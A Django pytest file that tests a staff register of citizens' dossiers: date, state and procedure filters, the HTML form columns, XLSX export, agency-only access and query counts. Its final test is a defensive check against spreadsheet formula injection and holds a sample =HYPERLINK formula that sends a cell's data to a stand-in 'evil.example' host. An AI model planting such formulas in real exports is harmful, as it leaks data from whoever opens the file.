import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from dossiers.models import State
from tests.dossiers.staff_support import Clock, dossier_in, file_online, sign_in, vn, world
from tests.factories import CitizenProfileFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def filed(monkeypatch):
    """Dossiers of one one-stop shop filed on three days, in different states and procedures."""
    clock = Clock(monkeypatch, vn(2026, 3, 2, 9, 0))
    w = world()
    other_procedure = w.version()
    march_2 = dossier_in(w, State.RETURNED)
    clock.set(vn(2026, 3, 4, 9, 0))
    march_4 = dossier_in(w, State.REFUSED, version=other_procedure)
    clock.set(vn(2026, 3, 6, 9, 0))
    march_6 = dossier_in(w, State.IN_PROGRESS)
    elsewhere = file_online(world())
    return w, other_procedure, [march_2, march_4, march_6], elsewhere


def register_codes(client, agency, **filters) -> list[str]:
    response = client.get(reverse("staff:register", args=[agency.code]), filters)
    assert response.status_code == 200
    return [dossier.code for dossier in response.context["page"].object_list]


def test_the_register_lists_the_agencys_dossiers_and_filters_them(client, filed):
    w, other_procedure, (march_2, march_4, march_6), elsewhere = filed
    sign_in(client, w.desk.clerk)
    agency = w.desk.agency

    assert register_codes(client, agency) == [march_2.code, march_4.code, march_6.code]
    assert register_codes(client, agency, date_from="2026-03-03") == [march_4.code, march_6.code]
    assert register_codes(client, agency, date_to="2026-03-04") == [march_2.code, march_4.code]
    assert register_codes(client, agency, date_from="2026-03-03", date_to="2026-03-05") == [march_4.code]
    assert register_codes(client, agency, state=State.RETURNED) == [march_2.code]
    code = other_procedure.procedure.national_code
    assert register_codes(client, agency, procedure_code=code) == [march_4.code]
    # The deciding agency's register has what was transferred to it.
    sign_in(client, w.handler.officer)
    assert register_codes(client, w.handler.agency) == [march_2.code, march_6.code]
    assert elsewhere.code not in client.get(reverse("staff:register", args=[agency.code])).content.decode()


def test_the_register_page_shows_the_columns_of_the_form(client, filed):
    w, _other, (march_2, _march_4, _march_6), _elsewhere = filed
    sign_in(client, w.desk.clerk)

    html = client.get(reverse("staff:register", args=[w.desk.agency.code])).content.decode()

    assert march_2.applicant_name in html and w.handler.agency.name in html
    assert "SỔ THEO DÕI HỒ SƠ" in html and "Mẫu số 07" in html


def test_the_register_downloads_as_xlsx_with_the_same_rows(client, filed):
    w, _other, (_march_2, march_4, march_6), _elsewhere = filed
    sign_in(client, w.desk.clerk)

    response = client.get(
        reverse("staff:register_xlsx", args=[w.desk.agency.code]), {"date_from": "2026-03-03"}
    )

    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "attachment" in response["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    header = rows.index(next(row for row in rows if row and row[0] == "STT"))
    assert rows[header][:3] == ("STT", "Mã hồ sơ", "Người nộp hồ sơ") and len(rows[header]) == 12
    body = rows[header + 1 :]
    assert [row[1] for row in body] == [march_4.code, march_6.code]
    assert [row[0] for row in body] == [1, 2]
    refused, in_progress = body
    assert refused[2] == march_4.applicant_name and refused[10] == "Từ chối tiếp nhận"
    assert refused[11] == "Không thuộc thẩm quyền"
    assert in_progress[7] == w.handler.agency.name and in_progress[6].date() == march_6.due_date
    assert in_progress[5].strftime("%d/%m/%Y") == "06/03/2026"


def test_the_register_is_only_for_members_of_the_agency(client, filed):
    w, *_ = filed
    sign_in(client, world().desk.clerk)
    assert client.get(reverse("staff:register", args=[w.desk.agency.code])).status_code == 404
    assert client.get(reverse("staff:register_xlsx", args=[w.desk.agency.code])).status_code == 404
    client.force_login(CitizenProfileFactory().user)
    assert client.get(reverse("staff:register_xlsx", args=[w.desk.agency.code])).status_code == 403


def test_the_register_page_does_not_query_per_row(client, filed, django_assert_max_num_queries):
    w, *_ = filed
    sign_in(client, w.desk.clerk)
    url = reverse("staff:register", args=[w.desk.agency.code])
    client.get(url)
    with django_assert_max_num_queries(8):
        client.get(url)
    for _n in range(5):
        dossier_in(w, State.IN_PROGRESS)
    with django_assert_max_num_queries(8):
        client.get(url)


def test_the_register_writes_a_formula_like_name_as_text(client, filed):
    """OWASP CSV injection: a citizen named =HYPERLINK(...) must not become a live formula in Excel."""
    w, _other, (march_2, _march_4, _march_6), _elsewhere = filed
    hostile = '=HYPERLINK("https://evil.example/?d="&B5,"Xem")'
    type(march_2).objects.filter(pk=march_2.pk).update(applicant_name=hostile, applicant_address="@SUM(1)")
    sign_in(client, w.desk.clerk)

    response = client.get(reverse("staff:register_xlsx", args=[w.desk.agency.code]))

    sheet = load_workbook(io.BytesIO(response.content)).active
    [name] = [cell for (cell,) in sheet.iter_rows(min_col=3, max_col=3) if cell.value == hostile]
    assert name.data_type == "s"  # text, not "f"
    [address] = [cell for (cell,) in sheet.iter_rows(min_col=4, max_col=4) if cell.value == "@SUM(1)"]
    assert address.data_type == "s"
